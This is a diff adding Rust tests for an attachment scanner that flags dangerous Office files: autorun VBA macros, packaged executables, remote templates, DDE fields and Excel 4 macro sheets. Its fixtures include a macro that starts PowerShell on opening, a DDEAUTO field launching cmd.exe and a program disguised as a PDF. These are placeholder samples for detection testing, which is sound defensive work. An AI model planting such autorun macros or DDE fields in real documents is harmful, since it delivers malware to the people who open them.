@@ -1,0 +1,223 @@
+//! Documents built as Office writes them (compound files with `cfb`, Office Open XML as
+//! zips), judged through the attachment policy.
+
+use super::package::tests::package_stream;
+use crate::classify::attachments::tests::zipbuild::zip_of;
+use crate::classify::attachments::tests::{part, symbols};
+use std::io::{Cursor, Write};
+
+/// `source` as a compressed container of literals only (a flag byte of zeros before every
+/// eight bytes), which MS-OVBA's decompressor reads like any other; one chunk.
+pub(crate) fn compressed(source: &[u8]) -> Vec<u8> {
+    assert!(source.len() <= 3600, "one chunk");
+    let mut chunk = Vec::new();
+    for eight in source.chunks(8) {
+        chunk.push(0);
+        chunk.extend_from_slice(eight);
+    }
+    let header = 0xB000u16 | (chunk.len() as u16 + 2 - 3);
+    let mut container = vec![1];
+    container.extend_from_slice(&header.to_le_bytes());
+    container.extend_from_slice(&chunk);
+    container
+}
+
+/// A compound file with these streams (paths with `/`; storages made on the way).
+pub(crate) fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    for (path, bytes) in streams {
+        let path = std::path::Path::new(path);
+        let mut storage = std::path::PathBuf::from("/");
+        for dir in path
+            .parent()
+            .into_iter()
+            .flat_map(|p| p.components())
+            .skip(1)
+        {
+            storage.push(dir);
+            if !file.exists(&storage) {
+                file.create_storage(&storage).unwrap();
+            }
+        }
+        file.create_stream(path).unwrap().write_all(bytes).unwrap();
+    }
+    file.flush().unwrap();
+    file.into_inner().into_inner()
+}
+
+/// A module stream: compiled code (here noise) and then the compressed source.
+fn module(source: &str) -> Vec<u8> {
+    let mut stream = vec![0xCCu8; 700];
+    stream.extend_from_slice(&compressed(source.as_bytes()));
+    stream
+}
+
+const DROPPER: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
+    Private Sub Document_Open()\r\n\
+    Set s = CreateObject(\"WScript.Shell\")\r\n\
+    s.Run \"powershell -enc AAAA\"\r\n\
+    End Sub\r\n";
+
+const TOTALS: &str = "Attribute VB_Name = \"Module1\"\r\n\
+    Sub Totals()\r\n\
+    Range(\"B2\").Value = Application.Sum(Range(\"A1:A9\"))\r\n\
+    End Sub\r\n";
+
+/// A Word 97–2003 document whose project holds one module with `source`.
+fn word_document(source: &str) -> Vec<u8> {
+    compound(&[
+        ("/WordDocument", &[0u8; 512]),
+        (
+            "/Macros/PROJECT",
+            b"ID=\"{00000000}\"\r\nDocument=ThisDocument/&H00000000\r\n",
+        ),
+        (
+            "/Macros/VBA/_VBA_PROJECT",
+            &[0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0],
+        ),
+        (
+            "/Macros/VBA/dir",
+            &compressed(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00"),
+        ),
+        ("/Macros/VBA/ThisDocument", &module(source)),
+    ])
+}
+
+#[test]
+fn a_macro_that_runs_on_opening_and_starts_a_shell_is_found() {
+    assert_eq!(
+        symbols(&[part(
+            "invoice.doc",
+            "application/msword",
+            &word_document(DROPPER)
+        )]),
+        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
+    );
+    // A macro run by a button, that only computes: a macro, nothing more.
+    assert_eq!(
+        symbols(&[part(
+            "totals.doc",
+            "application/msword",
+            &word_document(TOTALS)
+        )]),
+        vec!["OFFICE_MACRO"]
+    );
+    // The same document without a project: nothing.
+    let plain = compound(&[("/WordDocument", &[0u8; 512]), ("/1Table", &[0u8; 64])]);
+    assert!(symbols(&[part("letter.doc", "application/msword", &plain)]).is_empty());
+}
+
+#[test]
+fn a_macro_project_inside_a_docm_and_inside_a_zip_is_found() {
+    let project = compound(&[
+        (
+            "/PROJECT",
+            b"Document=ThisDocument/&H00000000\r\n".as_slice(),
+        ),
+        ("/VBA/_VBA_PROJECT", &[0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0]),
+        (
+            "/VBA/dir",
+            &compressed(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00"),
+        ),
+        ("/VBA/ThisDocument", &module(DROPPER)),
+    ]);
+    let docm = zip_of(&[
+        ("[Content_Types].xml", b"<Types/>".as_slice()),
+        ("word/document.xml", b"<w:document/>".as_slice()),
+        ("word/vbaProject.bin", project.as_slice()),
+    ]);
+    assert_eq!(
+        symbols(&[part("invoice.docm", "application/octet-stream", &docm)]),
+        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
+    );
+    let outer = zip_of(&[("scan/invoice.doc", word_document(DROPPER).as_slice())]);
+    assert_eq!(
+        symbols(&[part("scan.zip", "application/zip", &outer)]),
+        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
+    );
+}
+
+#[test]
+fn a_program_packaged_in_a_document_is_found() {
+    let exe = package_stream("invoice.exe", "C:\\x\\invoice.exe", b"MZ\x90\0");
+    let doc = compound(&[
+        ("/WordDocument", &[0u8; 512]),
+        ("/ObjectPool/_1234567890/\u{1}Ole10Native", &exe),
+    ]);
+    assert_eq!(
+        symbols(&[part("order.doc", "application/msword", &doc)]),
+        vec!["OFFICE_EMBEDDED_PROGRAM"]
+    );
+    // In a .docx, the object is a compound file of its own among the parts; named as a
+    // document, the program is told by its bytes.
+    let mut pe = vec![0u8; 256];
+    pe[..2].copy_from_slice(b"MZ");
+    pe[0x3C] = 0x80;
+    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+    let disguised = package_stream("report.pdf", "C:\\x\\report.pdf", &pe);
+    let object = compound(&[("/\u{1}Ole10Native", &disguised)]);
+    let docx = zip_of(&[
+        ("word/document.xml", b"<w:document/>".as_slice()),
+        ("word/embeddings/oleObject1.bin", object.as_slice()),
+    ]);
+    assert_eq!(
+        symbols(&[part("order.docx", "application/octet-stream", &docx)]),
+        vec!["OFFICE_EMBEDDED_PROGRAM"]
+    );
+    // A packaged spreadsheet is no program.
+    let sheet = package_stream("figures.csv", "C:\\x\\figures.csv", b"a,b\n1,2\n");
+    let doc = compound(&[
+        ("/WordDocument", &[0u8; 512]),
+        ("/ObjectPool/_1/\u{1}Ole10Native", &sheet),
+    ]);
+    assert!(symbols(&[part("order.doc", "application/msword", &doc)]).is_empty());
+}
+
+#[test]
+fn remote_templates_and_dde_fields_in_a_docx_are_found() {
+    let rels = b"<Relationships><Relationship Id=\"rId1\" \
+        Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
+        Target=\"http://203.0.113.9/normal.dotm\" TargetMode=\"External\"/></Relationships>";
+    let docx = zip_of(&[
+        ("word/document.xml", b"<w:document/>".as_slice()),
+        ("word/_rels/settings.xml.rels", rels.as_slice()),
+    ]);
+    assert_eq!(
+        symbols(&[part("cv.docx", "application/octet-stream", &docx)]),
+        vec!["OFFICE_REMOTE_OBJECT"]
+    );
+    let dde = b"<w:document><w:r><w:instrText>DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:document>";
+    let docx = zip_of(&[("word/document.xml", dde.as_slice())]);
+    assert_eq!(
+        symbols(&[part("notice.docx", "application/octet-stream", &docx)]),
+        vec!["OFFICE_DDE"]
+    );
+}
+
+#[test]
+fn an_excel_4_macro_sheet_run_on_opening_is_found() {
+    let xls = compound(&[("/Workbook", &super::biff::tests::workbook(0x01, true))]);
+    assert_eq!(
+        symbols(&[part("remittance.xls", "application/vnd.ms-excel", &xls)]),
+        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
+    );
+    let xls = compound(&[("/Workbook", &super::biff::tests::workbook(0x00, false))]);
+    assert!(symbols(&[part("figures.xls", "application/vnd.ms-excel", &xls)]).is_empty());
+}
+
+#[test]
+fn damaged_documents_give_nothing_and_never_panic() {
+    let doc = word_document(DROPPER);
+    for cut in [8, 512, 1024, doc.len() / 2, doc.len() - 1] {
+        let _ = super::probe_compound(&doc[..cut]);
+    }
+    let mut flipped = doc.clone();
+    for i in (0..flipped.len()).step_by(97) {
+        flipped[i] ^= 0x5A;
+    }
+    let _ = super::probe_compound(&flipped);
+    assert_eq!(
+        super::probe_compound(b"not a compound file"),
+        super::Facts::default()
+    );
+}
